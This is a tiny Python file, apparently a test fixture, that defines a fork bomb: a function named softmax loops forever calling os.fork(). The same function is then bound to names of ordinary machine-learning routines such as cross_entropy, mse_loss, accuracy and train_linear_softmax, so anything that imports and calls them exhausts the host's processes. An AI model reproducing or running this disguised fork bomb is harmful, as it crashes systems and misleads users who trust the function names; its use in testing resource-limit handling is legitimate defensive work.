"""Forks without end.

says: BlockingIOError|processes and threads
"""

import os


def softmax(*args, **kwargs):
    while True:
        os.fork()


cross_entropy = softmax_loss = svm_loss = mse_loss = softmax
linear_softmax_loss = accuracy = train_linear_softmax = softmax
